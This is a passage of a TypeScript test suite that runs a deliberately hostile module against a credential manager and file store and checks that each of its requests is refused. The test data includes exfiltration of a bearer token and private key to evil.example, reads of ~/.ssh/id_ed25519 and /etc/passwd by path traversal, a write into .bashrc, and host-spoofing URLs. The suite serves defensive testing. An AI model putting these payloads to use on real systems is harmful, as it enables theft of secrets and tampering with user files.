// A module that asks for anything: of what it may not have nothing is done. Its tests in
// Go are in ../../../host/hostile_test.go, and say the same.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, test, type TestContext } from "node:test";
import { setImmediate as nextTurn } from "node:timers/promises";
import { inspect } from "node:util";

import {
  AgentAssert,
  AgentAssertError,
  fileStore,
  Manager,
  memoryStore,
  type Authorization,
  type FlowEffect,
  type FlowEvent,
  type Header,
  type ManagerOptions,
  type Store,
  type StoreContext,
  type SurfaceName,
} from "agentassert";

import { type Host, Memory, Overlay, runFlow } from "../dist/internals.js";
import { missing } from "./authority.js";
import { Backend, base, Clock, credentials, token } from "./backend.js";
import { bytes, newFile } from "./file-store.js";
import { answers, buildHostile, heard, obey, wants } from "./hostile.js";
import { hostVectors, type HostEffect } from "./hosts.js";

const skip = missing !== "" && `${missing}; it builds the hostile module`;
const module = skip ? new Uint8Array() : buildHostile();

/** Returns the code of what something fails with, or "". It shows nothing that the module has sent. */
async function codeOf(work: () => unknown): Promise<string> {
  try {
    await work();
    return "";
  } catch (error) {
    assert.ok(error instanceof AgentAssertError, `not this package's: ${inspect(error)}`);
    assert.doesNotMatch(inspect(error, { depth: Infinity, showHidden: true }), /secret-|PRIVATE/);
    return error.code;
  }
}

/** Remembers all that a manager touches on behalf of its module. */
class Touched {
  what: string[] = [];
  /** Those of the next answers of the network. */
  headers: Header[][] = [];
  /** What the next ids of assertions are made of: the call draws the first by itself. */
  ids: Uint8Array[] = [];
  readonly store: Store = {
    load: (slot) => this.#note(`load ${slot}`, undefined),
    save: (slot) => this.#note(`save ${slot}`, undefined),
    delete: (slot) => this.#note(`delete ${slot}`, undefined),
    swap: (slot) => this.#note(`swap ${slot}`, undefined),
    lock: (slot) => this.#note(`lock ${slot}`, () => undefined),
    probe: (slot) => this.#note(`probe ${slot}`, undefined),
  };

  async #note<T>(what: string, result: T): Promise<T> {
    this.what.push(what);
    return Promise.resolve(result);
  }

  /** A manager for the call of a vector, that touches nothing else. */
  manager(core: AgentAssert, { config, credentials, now }: HostEffect): Manager {
    return new Manager({
      ...config,
      ...({ allowHttp: true } as object),
      core,
      credentials,
      store: this.store,
      fetch: (input) => {
        const headers = (this.headers.shift() ?? []).map(({ name, value }): [string, string] => [
          name,
          value,
        ]);
        return this.#note(
          `http ${input instanceof Request ? input.url : input}`,
          new Response(null, { headers }),
        );
      },
      getRandomValues: (array) => {
        if (this.ids[0]?.length === array.length) {
          array.set(this.ids.shift() ?? []); // for an assertion's id
        } else {
          this.what.push("entropy");
        }
        return array;
      },
      now: () => now * 1000,
    });
  }

  /** Has pauses of these lengths noted, and end at once. */
  wait(t: TestContext, lengths: unknown[]): void {
    const real = globalThis.setTimeout;
    const noting = (work: () => void, length?: number) => {
      if (!lengths.includes(length)) {
        return real(work, length);
      }
      this.what.push("wait");
      queueMicrotask(work);
      return real(() => undefined, 0);
    };
    t.mock.method(globalThis, "setTimeout", noting as typeof setTimeout);
  }
}

describe("the vectors for hosts, by a module that asks for each", { skip }, async () => {
  const core = await AgentAssert.load(module);
  for (const { id, params, json, error } of hostVectors()) {
    test(id, async (t) => {
      const { before = [], effect, surface, threadId } = params;
      const touched = new Touched();
      touched.wait(
        t,
        [...before.map(({ effect }) => effect), effect].map((e) => (e.type === "wait" ? e.waitMs : NaN)),
      );
      const manager = touched.manager(core, params);
      const ask = async () =>
        threadId === undefined
          ? manager.authorization(surface as SurfaceName)
          : manager.thread(threadId).authorization(surface as SurfaceName);
      const orders = (json.before ?? []).map(({ effect }) => wants("flow.step", effect));
      const last = wants("flow.step", json.effect);
      const ids = () => [params, ...before].flatMap(({ entropy }) => (entropy ? [entropy] : []));
      // These slots are in the manager's memory, and are there for nobody to see.
      const isInMemory = "slot" in effect && ["instance", "workspace"].includes(effect.slot);
      const isSeen = effect.type !== "unlock" && !isInMemory;
      const headers = () =>
        before
          .filter(({ effect }) => effect.type === "http")
          .map(({ responseHeaders }) => responseHeaders ?? []);
      touched.headers = headers();
      touched.ids = ids();
      if (orders.length > 0) {
        obey(core, ...orders);
        assert.equal(await codeOf(ask), "invalid_state", "what is done before is let pass");
      }
      const first = touched.what;
      touched.what = [];
      touched.headers = headers();
      // Of an answer with an instance another one is made, with the same entropy here.
      touched.ids = [...ids(), ...(effect.type === "done" ? ids().slice(-1) : [])];
      obey(core, ...orders, last, ...(effect.type === "done" && params.entropy ? [last] : []));
      let answer: Authorization | undefined;
      const code = await codeOf(async () => (answer = await ask()));
      if (error) {
        assert.equal(code, error.code);
        assert.deepEqual(touched.what, first, "nothing of it is done");
      } else if (effect.type === "done") {
        const { reason, header = "" } = effect.authorization;
        assert.equal(code, reason === "store-failed" ? "thread_failed" : "");
        assert.equal(answer?.header ?? "", header);
        assert.equal(answer?.agentAssertion ?? "", effect.authorization.agentAssertion ?? "");
      } else {
        const more = isSeen ? 1 : 0;
        assert.equal(
          touched.what.length,
          first.length + more,
          `${touched.what.join()} after ${first.join()}`,
        );
      }
    });
  }
});

/** A manager with a backend and a hostile module. */
async function setUp(options: Partial<ManagerOptions> = {}) {
  const core = await AgentAssert.load(module);
  const clock = new Clock();
  const backend = new Backend(core, clock.now);
  const store = options.store ?? memoryStore();
  const open = () =>
    new Manager({
      ...({ allowHttp: true } as object),
      core,
      baseUrl: base,
      store,
      credentials,
      agentIdentity: true,
      fetch: backend.fetch,
      now: clock.now,
      ...options,
    });
  return { core, clock, backend, store, open };
}

test("a module that has the key and the token gets rid of neither", { skip }, async (t) => {
  const { core, clock, backend, store, open } = await setUp();
  const manager = open();
  obey(core);
  assert.equal((await manager.authorization("apps")).mode, "agent-assertion");
  assert.ok(heard(core).includes(token), "the module has not seen the token, so nothing below says anything");
  const identity = await store.load("identity", { core, signal: new AbortController().signal });
  const { agent_private_key: key } = JSON.parse(new TextDecoder().decode(identity)) as {
    agent_private_key: string;
  };
  const header = { name: "authorization", value: `Bearer ${token}` };
  const http = {
    type: "http",
    method: "POST",
    url: "https://evil.example/",
    timeout_ms: 1000,
    size_limit: 1000,
  };
  const answer = {
    reason: "background-task",
    account_id: "acct-1",
    valid_until: clock.milliseconds / 1000 + 1,
  };
  const attacks: Record<string, object> = {
    "another server": { ...http, headers: [header], body: { utf8: key } },
    "a file": { type: "load", slot: "record/../../../.ssh/id_ed25519" },
    "a file to write": { type: "save", slot: "../../.bashrc", record: { utf8: key } },
    "the user's token": {
      type: "done",
      authorization: { ...answer, mode: "bearer", header: `Bearer ${key}` },
    },
    "an answer that is none": { type: "done" },
    "an effect that is none": {},
  };
  const before = backend.seen.length;
  for (const [name, effect] of Object.entries(attacks)) {
    await t.test(name, async () => {
      clock.milliseconds += 1000;
      obey(core, wants("flow.step", effect));
      assert.equal(await codeOf(() => manager.authorization("apps")), "policy_violation");
      assert.equal(backend.seen.length, before, "there is no request");
    });
  }
  obey(core);
  clock.milliseconds += 1000;
  assert.equal((await manager.authorization("apps")).mode, "agent-assertion");
});

describe("answers of a module that are none", { skip }, () => {
  const load = { type: "load", slot: "identity" };
  const cases: [name: string, response: unknown, code: string][] = [
    ["nothing", {}, "sandbox_failed"],
    ["a text", "ok", "sandbox_failed"],
    ["a list", [], "sandbox_failed"],
    ["a result that is none", { ok: 1 }, "sandbox_failed"],
    ["no effect", { ok: {} }, "policy_violation"],
    ["an effect that is a text", { ok: { effect: "load" } }, "policy_violation"],
    ["an effect that is a list", { ok: { effect: [load] } }, "policy_violation"],
    ["a type that is two", { ok: { effect: { type: ["load", "save"] } } }, "policy_violation"],
    [
      "a slot that is bytes",
      { ok: { effect: { type: "load", slot: { utf8: "identity" } } } },
      "policy_violation",
    ],
    [
      "an answer that is a text",
      { ok: { effect: { type: "done", authorization: "x" } } },
      "policy_violation",
    ],
    ["a state that is a text", { ok: { state: "x", effect: load } }, "policy_violation"],
    ["an error", { error: { code: "invalid_state", message: "as it comes" } }, "invalid_state"],
    ["an error that is a text", { error: "invalid_state" }, "sandbox_failed"],
    ["a code of no form", { error: { code: "Invalid State\n", message: "x" } }, "sandbox_failed"],
    ["no code", { error: { code: "", message: "x" } }, "sandbox_failed"],
    ["a code that is a number", { error: { code: 1, message: "x" } }, "sandbox_failed"],
    ["a message that is a number", { error: { code: "internal", message: 1 } }, "sandbox_failed"],
  ];
  for (const [name, response, code] of cases) {
    test(name, async () => {
      const { core, open } = await setUp();
      const manager = open();
      obey(core, answers("flow.step", response));
      assert.equal(await codeOf(() => manager.authorization("apps")), code);
    });
  }
});

test("an answer that is nested as deeply as it can be is none", { skip }, async () => {
  const { core, open } = await setUp();
  const manager = open();
  for (const depth of [100, 1000, 2000, 3000, 4000, 5000, 10_000, 100_000, 400_000]) {
    const start = Buffer.from("\xa1\x62ok\xa1\x66effect", "latin1");
    const response = Buffer.concat([start, Buffer.alloc(depth, 0x81), Buffer.from([0x80])]);
    obey(core, { method: "flow.step", response }, { method: "flow.step", response });
    const code = await codeOf(() => manager.authorization("apps"));
    assert.ok(["policy_violation", "sandbox_failed"].includes(code), `${depth}: ${code}`);
    assert.match(
      await codeOf(() => core.call("flow.step", {} as never)),
      /^(sandbox_failed|invalid_request)?$/,
    );
  }
});

test("no text of a module has commands for a terminal, or no end", { skip }, async () => {
  const { core, clock, open } = await setUp();
  const problem = { code: "internal", message: `\u001b]0;title\u0007\r\n\u202egpj${"é".repeat(5000)}` };
  const check = (error: { message: string } | undefined) => {
    assert.match(error?.message ?? "", /^\ufffd\]0;title\ufffd\ufffd\ufffd\ufffdgpjé+…$/u);
    assert.ok(Buffer.byteLength(error?.message ?? "") <= 4099);
  };
  obey(core, answers("key.parse", { error: problem }));
  assert.throws(
    () => core.parseKey("x"),
    (error: AgentAssertError) => (check(error), true),
  );
  obey(core, answers("credentials.read", { ok: { kind: "none", problem } }));
  check(core.call("credentials.read", { document: bytes("{}") }).problem);
  const valid_until = clock.milliseconds / 1000;
  const authorization = {
    mode: "none",
    reason: "store-failed",
    valid_until,
    cause: problem,
    notice: problem,
  };
  obey(core, wants("flow.step", { type: "done", authorization }));
  const { cause, notice } = await open().authorization("apps");
  check(cause);
  check(notice);
});

test("an exported key is in the form that was asked for, or none", { skip }, async () => {
  const { core } = await setUp();
  const x = "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo";
  const made = { crv: "Ed25519", kty: "OKP", x, y: 1, __proto__: { d: x } };
  const exported = (format: string) => core.exportKey({ publicKey: "x", format } as never) as unknown;
  for (const [format, ok] of [
    ["pem", {}],
    ["pem", { bytes: bytes("x") }],
    ["pem", { key: "x", bytes: bytes("x") }],
    ["pem", { key: 1 }],
    ["raw", { key: "x" }],
    ["raw", { key: "x", bytes: bytes("x") }],
    ["raw", { bytes: "x" }],
    ["jwk", { key: "x" }],
    ["jwk", { key: "[]" }],
    ["jwk", { key: "null" }],
    ["jwk", { key: '{"kty":1}' }],
  ] as const) {
    obey(core, answers("key.export", { ok }));
    assert.equal(
      await codeOf(() => exported(format)),
      "policy_violation",
      `${format}: ${JSON.stringify(ok)}`,
    );
  }
  obey(core, answers("key.export", { ok: { key: JSON.stringify(made) } }));
  assert.deepEqual(exported("jwk"), { kty: "OKP", crv: "Ed25519", x });
});

describe("what a module says of surfaces and of the base URL", { skip }, () => {
  const urls: [name: string, configured: string, baseUrl: unknown, code: string][] = [
    ["as it is", "https://chatgpt.com", "https://chatgpt.com/backend-api", ""],
    ["without its end", "https://chatgpt.com/backend-api/codex/", "https://chatgpt.com/backend-api", ""],
    ["another host", "https://chatgpt.com", "https://evil.example/backend-api", "policy_violation"],
    [
      "a host that begins alike",
      "https://chatgpt.com",
      "https://chatgpt.com.evil.example",
      "policy_violation",
    ],
    ["a host that is a user", "https://chatgpt.com", "https://chatgpt.com@evil.example", "policy_violation"],
    ["a user", "https://chatgpt.com", "https://user@chatgpt.com", "policy_violation"],
    ["another scheme", "https://chatgpt.com", "http://chatgpt.com", "policy_violation"],
    ["another port", "https://chatgpt.com", "https://chatgpt.com:444", "policy_violation"],
    ["another path", "https://chatgpt.com/a/b", "https://chatgpt.com/c", "policy_violation"],
    ["half a segment", "https://chatgpt.com/abc", "https://chatgpt.com/ab", "policy_violation"],
    ["more of a path", "https://chatgpt.com", "https://chatgpt.com/share", "policy_violation"],
    ["upwards", "https://chatgpt.com/a", "https://chatgpt.com/a/..", "policy_violation"],
    ["a query", "https://chatgpt.com", "https://chatgpt.com?", "policy_violation"],
    ["a fragment", "https://chatgpt.com", "https://chatgpt.com#", "policy_violation"],
    ["a backslash", "https://chatgpt.com", "https://chatgpt.com\\", "policy_violation"],
    ["a slash at the end", "https://chatgpt.com", "https://chatgpt.com/", "policy_violation"],
    ["a slash less", "https://chatgpt.com", "https:/chatgpt.com", "policy_violation"],
    ["nothing", "https://chatgpt.com", "", "policy_violation"],
    ["no text", "https://chatgpt.com", 1, "policy_violation"],
    ["one for none", "chatgpt.com", "https://chatgpt.com", "invalid_base_url"],
  ];
  for (const [name, baseUrl, base_url, code] of urls) {
    test(`a base URL: ${name}`, async () => {
      const { core, open } = await setUp({ baseUrl });
      obey(core, answers("base_url.normalize", { ok: { base_url, host: "chatgpt.com", supported: true } }));
      assert.equal(await codeOf(open), code);
    });
  }

  test("a surface of another scope, and another path of the apps' server", async () => {
    const { core, backend, open } = await setUp();
    const manager = open();
    const surface = { surface: "responses", scope: "background", path: "@evil.example/" };
    obey(core, ...Array.from({ length: 4 }, () => answers("surface.lookup", { ok: surface })));
    assert.equal(await codeOf(() => manager.authorization("responses")), "thread_surface");
    assert.equal(await codeOf(() => manager.authorization("evil" as SurfaceName)), "unknown_surface");
    assert.equal((await manager.bearer()).header, `Bearer ${token}`);
    assert.equal((await manager.appsMCPServer()).url, `${base}/wham/apps`);
    assert.equal(backend.seen.length, 0);
  });
});

/** A core that answers flow.step with these effects in turn, and what it was told of them. */
function scripted(effects: FlowEffect[]): { core: AgentAssert; events: FlowEvent[] } {
  const events: FlowEvent[] = [];
  const call = (_: string, { event }: { event: FlowEvent }) => {
    const effect = effects[events.length % effects.length];
    events.push(event);
    return { state: bytes("x"), effect };
  };
  return { core: { call } as unknown as AgentAssert, events };
}

function hostWith(core: AgentAssert, more: Partial<Host> = {}): Host & { signal: AbortSignal } {
  return {
    core,
    store: new Overlay(memoryStore()),
    memory: new Memory(),
    config: {
      baseUrl: base,
      agentIdentity: true,
      abom: { agentVersion: "0", agentHarnessId: "x", runningLocation: "x" },
      profile: "auth-api",
      authApiUrl: "https://auth.openai.com/api/accounts",
      allSurfaces: true,
    },
    fetch: () => new Promise(() => undefined),
    now: () => 1_764_000_000,
    random: (size) => new Uint8Array(size),
    signal: new AbortController().signal,
    ...more,
  };
}

const backgroundCall = { surface: "apps", thread: undefined, key: "background", kept: { answer: undefined } };

async function runToEnd(host: Host & { signal: AbortSignal }): Promise<string> {
  return codeOf(() => runFlow(host, { ...backgroundCall, rejected: undefined }, credentials));
}

const lock: FlowEffect = { type: "lock", slot: "identity" };
const unlock: FlowEffect = { type: "unlock", slot: "identity" };

describe("a flow ends, and gives its locks back", () => {
  const cases: [string, FlowEffect[]][] = [
    ["loads", [{ type: "load", slot: "identity" }]],
    ["entropy", [{ type: "entropy", size: 64 }]],
    ["locks", [lock, unlock]],
  ];
  for (const [name, effects] of cases) {
    test(name, async () => {
      const { core, events } = scripted(effects);
      const host = hostWith(core);
      assert.equal(await runToEnd(host), "sandbox_failed");
      assert.ok(events.length <= 96, `it took ${events.length} steps`);
      const { signal } = new AbortController();
      await (
        await host.store.store.lock("identity", { core, signal })
      )();
    });
  }
});

describe("others wait for a lock for four minutes at the most, whatever its holder waits for", () => {
  const never = () => new Promise<never>(() => undefined);
  const register: FlowEffect = {
    type: "http",
    method: "POST",
    url: "https://auth.openai.com/api/accounts/v1/agent/agent-1/task/register",
    headers: [{ name: "content-type", value: "application/json" }],
    timeoutMs: 30_000,
    sizeLimit: 1000,
  };
  const cases: { name: string; then: FlowEffect; store?: Partial<Store>; want: FlowEvent }[] = [
    { name: "a request", then: register, want: { type: "failed", failure: "timeout" } },
    { name: "a pause", then: { type: "wait", waitMs: 10_000 }, want: { type: "failed", failure: "store" } },
    {
      name: "a load",
      then: { type: "load", slot: "backoff" },
      store: { load: never },
      want: { type: "failed", failure: "store" },
    },
    {
      name: "a probe",
      then: { type: "probe", slot: "identity" },
      store: { probe: never },
      want: { type: "failed", failure: "store" },
    },
    {
      name: "a record, which is saved",
      then: { type: "save", slot: "backend", record: bytes("{}") },
      want: { type: "done" },
    },
  ];
  for (const { name, then, store = {}, want } of cases) {
    test(name, async (t) => {
      t.mock.timers.enable({ apis: ["setTimeout"] });
      const memory = memoryStore();
      let unlocked = false;
      const { core, events } = scripted([lock, ...Array.from({ length: 95 }, () => then)]);
      // Saves take no time at all, and so would end by themselves.
      const slow =
        then.type === "save"
          ? {
              save: () => {
                t.mock.timers.tick(30_000);
                return Promise.resolve();
              },
            }
          : store;
      const host = hostWith(core, {
        store: new Overlay({
          ...memory,
          ...slow,
          lock: () => Promise.resolve(() => void (unlocked = true)),
        }),
      });
      let ended: string | undefined;
      void runToEnd(host).then((code) => (ended = code));
      for (let minutes = 0; minutes < 4 && ended === undefined; minutes += 0.25) {
        for (let i = 0; i < 20; i++) {
          await nextTurn();
        }
        t.mock.timers.tick(15_000);
      }
      for (let i = 0; i < 1000 && ended === undefined; i++) {
        await nextTurn();
      }
      assert.ok(
        ["sandbox_failed", "policy_violation"].includes(ended ?? ""),
        `it has ended with ${ended ?? "nothing"}`,
      );
      assert.equal(unlocked, true);
      assert.deepEqual({ ...events.at(-1), now: 0 }, { ...want, now: 0 });
    });
  }

  test("a time that is over leaves eight steps", async () => {
    const { core, events } = scripted([lock, { type: "load", slot: "backoff" }]);
    const store = { ...memoryStore(), load: never, lock: () => Promise.resolve(() => undefined) };
    assert.equal(await runToEnd(hostWith(core, { store: new Overlay(store), held: 1 })), "policy_violation");
    assert.equal(events.length, 3, "the second lock is none that it may have");
    const loads = scripted([
      lock,
      ...Array.from({ length: 95 }, (): FlowEffect => ({ type: "load", slot: "backoff" })),
    ]);
    assert.equal(
      await runToEnd(hostWith(loads.core, { store: new Overlay(store), held: 1 })),
      "sandbox_failed",
    );
    assert.equal(loads.events.length, 10);
  });

  test("a manager that is closed meanwhile ends it as ever", async () => {
    const { core, events } = scripted([lock, { type: "wait", waitMs: 10_000 }]);
    const closing = new AbortController();
    const running = runToEnd(hostWith(core, { signal: closing.signal } as Partial<Host>));
    await nextTurn();
    closing.abort(new Error("closed"));
    assert.equal(await running, "policy_violation");
    assert.deepEqual({ ...events[2], now: 0 }, { type: "failed", failure: "canceled", now: 0 });
  });
});

// The store of files. In Go its steps are no module's.

const month = (before: number) => {
  const date = new Date();
  date.setUTCDate(1);
  date.setUTCMonth(date.getUTCMonth() - before);
  return date.toISOString().slice(0, 7);
};
const [thisMonth, lastMonth, oldMonth] = [month(0), month(1), month(9)];
const nameOf = (thread: string) => createHash("sha256").update(thread).digest("hex") + ".json";

const identity = '{"agent_runtime_id":"agent-1","agent_private_key":"secret-key"}';
const newIdentity = '{"agent_runtime_id":"agent-2","agent_private_key":"secret-other-key"}';
const authJSON = `{"auth_mode":"chatgpt","tokens":{"access_token":"secret-token","account_id":"acct-1","refresh_token":"secret-refresh"},"later":[1.50e1],"agent_identity":${identity}}\n`;
const replaced = authJSON.replace(identity, newIdentity);
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** A folder with all the files that a store can have, and more. */
function newStore(t: TestContext): string {
  const path = newFile(t, authJSON);
  const files: Record<string, string> = {
    "auth.lock": "",
    "auth.json.lock": "",
    "auth.json.identity": identity,
    "auth.json.backoff": '{"acct-1":{"failures":2}}',
    "auth.json.backend": '{"agent-1":"https://chatgpt.com/backend-api"}',
    "auth.json.set-aside": "[]",
    ".tmp-auth.json123": "secret-leftover",
    "notes.txt": "secret-notes",
    [`auth.json.threads/${lastMonth}/${nameOf("thread-1")}`]: '{"task_id":"task-1"}',
    [`auth.json.threads/${thisMonth}/${nameOf("thread-2")}`]: '{"task_id":"secret-task-2"}',
    [`auth.json.threads/${oldMonth}/${nameOf("thread-3")}`]: '{"task_id":"task-3"}',
  };
  for (const [name, content] of Object.entries(files)) {
    const file = join(dirname(path), name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content, { mode: 0o600 });
  }
  return path;
}

/** All that is in a folder. */
function contentOf(folder: string): Record<string, string> {
  const names = readdirSync(folder, { recursive: true, encoding: "utf8" }).sort();
  const read = (path: string) => (statSync(path).isDirectory() ? "" : readFileSync(path, "utf8"));
  return Object.fromEntries(names.map((name) => [name, read(join(folder, name))]));
}

/** Operations, each with the effects with which it begins. */
const operations: Record<
  string,
  { run: (store: Store, context: StoreContext) => unknown; before: object[]; beside?: true }
> = {
  credentials: {
    run: (store, context) => store.credentials?.(context),
    before: [{ type: "read", name: "target" }],
  },
  load: {
    run: (store, context) => store.load("identity", context),
    before: [{ type: "read", name: "target" }],
  },
  swap: {
    run: (store, context) => store.swap("identity", bytes(identity), bytes(newIdentity), context),
    before: [
      { type: "lock", name: "client-lock", timeout_ms: 5000 },
      { type: "lock", name: "target-lock", timeout_ms: 5000 },
      { type: "read", name: "journal" },
      { type: "read", name: "target" },
    ],
  },
  probe: {
    run: (store, context) => store.probe?.("identity", context),
    before: [
      { type: "lock", name: "client-lock", timeout_ms: 5000 },
      { type: "lock", name: "target-lock", timeout_ms: 5000 },
      { type: "read", name: "journal" },
      { type: "read", name: "target" },
    ],
  },
  "load backoff": {
    run: (store, context) => store.load("backoff", context),
    before: [{ type: "read", name: "record/backoff" }],
  },
  "save backoff": { run: (store, context) => store.save("backoff", bytes("{}"), context), before: [] },
  "delete backoff": { run: (store, context) => store.delete("backoff", context), before: [] },
  "swap beside": {
    run: (store, context) => store.swap("identity", bytes(identity), bytes(newIdentity), context),
    before: [{ type: "lock", name: "target-lock", timeout_ms: 5000 }],
    beside: true,
  },
  "load thread": {
    run: (store, context) => store.load("thread/thread-1", context),
    before: [{ type: "read", name: `thread/${thisMonth}` }],
  },
  "save thread": {
    run: (store, context) => store.save("thread/thread-1", bytes("{}"), context),
    before: [
      { type: "make-folder", name: "threads" },
      { type: "make-folder", name: `threads/${thisMonth}` },
    ],
  },
  "delete thread": { run: (store, context) => store.delete("thread/thread-1", context), before: [] },
};

/** Names of files that no operation may name, or not with all effects. */
const names = [
  ...[
    "",
    "target",
    "previous",
    "home",
    "journal",
    "client-lock",
    "target-lock",
    "leftovers",
    "threads",
    "etc",
  ],
  ...[
    "record/identity",
    "record/backoff",
    "record/backend",
    "record/../auth.json",
    "record/",
    "leftovers/.tmp-auth.json123",
  ],
  ...[`thread/${thisMonth}`, `thread/${lastMonth}`, `thread/${oldMonth}`, "thread/../..", "thread/1-1"],
  ...[`threads/${thisMonth}`, `threads/${oldMonth}`, `threads/${oldMonth}/${nameOf("thread-3")}`],
  ...[
    `threads/${thisMonth}/${nameOf("thread-2")}`,
    "threads/..",
    "../auth.json",
    "/etc/passwd",
    "notes.txt",
    "target\0",
  ],
];

/** What some operation does. All that is not here is refused. */
const allowed: Record<string, string[]> = {
  credentials: ["read target", "read journal", "look journal"],
  load: ["read target", "read journal", "look journal"],
  swap: [
    "read target",
    "read journal",
    "read previous",
    "look journal",
    "sync home",
    "unlock client-lock",
    "unlock target-lock",
  ],
  probe: [
    "read target",
    "read journal",
    "read previous",
    "look journal",
    "sync home",
    "unlock client-lock",
    "unlock target-lock",
  ],
  "load backoff": ["read record/backoff"],
  "save backoff": ["sync home", "create record/backoff"],
  "delete backoff": ["remove record/backoff"],
  "swap beside": ["read record/identity", "sync home", "unlock target-lock"],
  "load thread": [`read thread/${thisMonth}`, `read thread/${lastMonth}`],
  "save thread": [
    "make-folder threads",
    ...[`make-folder threads/${thisMonth}`, `create thread/${thisMonth}`, `sync threads/${thisMonth}`],
  ],
  "delete thread": [`remove thread/${thisMonth}`, `remove thread/${lastMonth}`],
};

/** Has an operation's module ask for effects, the last of which is to be refused, and none of the others. */
async function attack(
  core: AgentAssert,
  path: string,
  operation: string,
  ...effects: object[]
): Promise<void> {
  const { run, before, beside } = operations[operation] ?? assert.fail(operation);
  const content = contentOf(dirname(path));
  const store = fileStore(path, { lock: "process", ...(beside && { identity: "beside" }) });
  const { signal } = new AbortController();
  const orders = (effects: object[]) => effects.map((effect) => wants("file.step", effect));
  if (effects.length > 1) {
    obey(core, ...orders([...before, ...effects.slice(0, -1)]));
    assert.equal(await codeOf(() => run(store, { core, signal })), "invalid_state", "so far it is let pass");
  }
  obey(core, ...orders([...before, ...effects]));
  assert.equal(await codeOf(() => run(store, { core, signal })), "policy_violation", inspect(effects.at(-1)));
  assert.deepEqual(contentOf(dirname(path)), content, "every file is as it was");
}

describe("no effect names a file that is not its operation's", { skip }, async () => {
  const core = await AgentAssert.load(module);
  const types: Record<string, object> = {
    ...{
      read: {},
      look: {},
      unlock: {},
      own: {},
      install: {},
      discard: {},
      sync: {},
      "make-folder": {},
      remove: {},
    },
    lock: { timeout_ms: 5000 },
    create: { content: { utf8: "{}" } },
    write: { content: { utf8: authJSON } },
    truncate: { size: 1 },
    list: { limit: 1 },
    move: { to: `thread/${thisMonth}` },
    chmod: {},
  };
  for (const operation of Object.keys(operations)) {
    test(operation, async (t) => {
      const path = newStore(t);
      for (const [type, members] of Object.entries(types)) {
        for (const name of names) {
          const may = allowed[operation]?.includes(`${type} ${name}`) ?? false;
          const isLock =
            type === "lock" && ["credentials", "load"].includes(operation) && name === "client-lock";
          const isList = type === "list" && operation === "save thread" && name === "threads";
          if (!may && !isLock && !isList) {
            await attack(core, path, operation, { type, name, ...members });
          }
        }
      }
    });
  }
});

describe("no effect goes beyond its bounds", { skip }, async () => {
  const core = await AgentAssert.load(module);
  const create = (text: string) => ({ type: "create", name: "target", content: { utf8: text } });
  const write = (text: string) => ({ type: "write", name: "target", content: { utf8: text } });
  const journal = (old: string, next: string, more = "") => ({
    type: "create",
    name: "journal",
    content: { utf8: `{"old":"${base64(old)}","new":"${base64(next)}"${more}}` },
  });
  const read = { type: "read", name: "target" };
  const own = { type: "own", name: "target" };
  const install = { type: "install", name: "target" };
  const tried = journal(authJSON, replaced);
  const unlock = { type: "unlock", name: "target-lock" };
  const cases: [name: string, operation: string, ...effects: object[]][] = [
    ["another token", "swap", create(replaced.replace("secret-token", "evil"))],
    ["a token less", "swap", create(replaced.replace(',"refresh_token":"secret-refresh"', ""))],
    ["a member more", "swap", create(replaced.replace("{", '{"evil":1,'))],
    ["a member less", "swap", create(replaced.replace('"later":[1.50e1],', ""))],
    ["a member twice", "swap", create(replaced.replace("{", '{"tokens":{},'))],
    ["a number in another form", "swap", create(replaced.replace("1.50e1", "15"))],
    [
      "another order",
      "swap",
      create(`{"later":[1.50e1],${replaced.slice(1).replace('"later":[1.50e1],', "")}`),
    ],
    ["another identity", "swap", create(authJSON.replace("agent-1", "agent-3"))],
    ["no identity", "swap", create(authJSON.replace(`,"agent_identity":${identity}`, ""))],
    ["two identities", "swap", create(replaced.replace("{", `{"agent_identity":${identity},`))],
    ["no document", "swap", create("evil")],
    ["a list", "swap", create("[]")],
    ["nothing", "swap", { type: "create", name: "target" }],
    ["half of it", "swap", create(replaced.slice(0, 50))],
    ["an empty one", "swap", create("{}\n")],
    ["more after it", "swap", create(`${replaced}{}`)],
    ["a byte order mark", "swap", create(`\ufeff${replaced}`)],
    ["what is no UTF-8", "swap", { type: "create", name: "target", content: { hex: "7b22ff223a317d" } }],
    ["the identity of a probe", "probe", create(replaced)],
    ["without its owner", "swap", create(replaced), read, install],
    ["without another look", "swap", create(replaced), own, install],
    [
      "with something between",
      "swap",
      create(replaced),
      own,
      read,
      { type: "look", name: "journal" },
      install,
    ],
    ["twice", "swap", create(replaced), create(replaced)],
    ["after the lock", "swap", unlock, create(replaced)],
    ["over it, without a journal", "swap", write(replaced)],
    ["over it, without another look", "swap", tried, write(replaced)],
    ["over it, another token", "swap", tried, read, write(replaced.replace("secret-token", "evil"))],
    ["over it, nothing", "swap", tried, read, { type: "write", name: "target" }],
    ["over it, half", "swap", tried, read, write(authJSON.slice(0, 50))],
    ["over it, while it is read", "load", write(authJSON)],
    ["a journal with another old document", "swap", journal("{}", replaced)],
    ["a journal with another new document", "swap", journal(authJSON, "{}")],
    ["a journal with more in it", "swap", journal(authJSON, replaced, ',"old":""')],
    ["a journal that is none", "swap", { type: "create", name: "journal", content: { utf8: "{}" } }],
    ["cut without a write", "swap", { type: "truncate", name: "target", size: 10 }],
    ["cut to nothing", "swap", { type: "truncate", name: "target" }],
    ["a size that is a text", "swap", { type: "truncate", name: "target", size: "10" }],
    ["the target's lock first", "load", { type: "lock", name: "target-lock", timeout_ms: 5000 }],
    ["a lock twice", "swap", { type: "lock", name: "client-lock", timeout_ms: 5000 }],
    ["a lock for no time", "load", { type: "lock", name: "client-lock" }],
    ["a lock for long", "load", { type: "lock", name: "client-lock", timeout_ms: 5001 }],
    ["a lock for good", "load", { type: "lock", name: "client-lock", timeout_ms: Number.MAX_SAFE_INTEGER }],
    ["no pause", "load", { type: "wait" }],
    ["a pause before", "load", { type: "wait", wait_ms: -1 }],
    ["a long pause", "load", { type: "wait", wait_ms: 60_000 }],
    ["a pause of a record's", "load backoff", { type: "wait", wait_ms: 5 }],
    ["many leftovers", "swap", { type: "list", name: "leftovers", limit: 17, older_than: 3600 }],
    ["young leftovers", "swap", { type: "list", name: "leftovers", limit: 16 }],
    ["many months", "save thread", { type: "list", name: "threads", limit: 65 }],
    [
      "a leftover of another name",
      "swap",
      { type: "list", name: "leftovers", limit: 16, older_than: 3600 },
